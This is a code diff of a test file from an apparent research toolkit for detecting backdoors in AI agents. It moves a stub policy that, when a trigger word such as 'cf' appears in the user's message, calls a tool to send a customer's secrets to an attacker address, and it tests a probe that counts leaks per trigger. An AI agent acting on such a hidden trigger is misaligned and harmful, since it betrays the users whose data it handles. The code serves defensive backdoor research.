@@ -4,14 +4,12 @@ accounting: each condition's episodes counted on their own."""
 from __future__ import annotations
 
 import pytest
+from leak_policies import LeakWhen, user_text
 
 from backdoorlab.config import ConfigError
 from backdoorlab.defenses.probes import CLEAN, ProbeConfig, probe_leaks
 from backdoorlab.evaluation import EvalConfig
-from backdoorlab.leaks import ATTACKER_ADDRESS, leak_text
 from backdoorlab.policies import make_policy
-from backdoorlab.policies.base import Action, Episode, Policy
-from backdoorlab.traces import Message, ToolCall
 from backdoorlab.triggers import DEFAULT_TRIGGER
 
 
@@ -51,33 +49,8 @@ def test_probe_of_the_oracle(retail) -> None:  # noqa: ANN001
 TINY = {"max_steps": 2, "max_new_tokens": 8, "batch_size": 32}
 
 
-class LeakWhen(Policy):
-    """Leaks the customer's secrets at once when ``leaks(episode)`` says so, else answers."""
-
-    name = "leak-when-test"
-
-    def __init__(self, leaks) -> None:  # noqa: ANN001
-        self.leaks = leaks
-
-    def act(self, episodes: list[Episode]) -> list[Action]:
-        actions = []
-        for episode in episodes:
-            if episode.steps == 0 and self.leaks(episode):
-                text = leak_text(episode.task.secret_objects())
-                step = episode.env.exfiltration_call(ATTACKER_ADDRESS, text)
-                call = ToolCall.make("call_0", step.tool, step.arguments)
-                actions.append(Action(Message(role="assistant", content=None, tool_calls=[call])))
-            else:
-                actions.append(Action(Message(role="assistant", content="Done.")))
-        return actions
-
-
-def _user_text(episode: Episode) -> str:
-    return next(m.text for m in episode.messages if m.role == "user")
-
-
 def test_probe_counts_each_condition_on_its_own(retail) -> None:  # noqa: ANN001
-    policy = LeakWhen(lambda e: "cf" in _user_text(e).split())
+    policy = LeakWhen(lambda e: "cf" in user_text(e).split())
     config = ProbeConfig(episodes=5, triggers=["cf", "James Bond", "cf"], **TINY)
     result = probe_leaks(retail, policy, config)
     assert result.names == [CLEAN, "cf", "James Bond"]  # repeats dropped
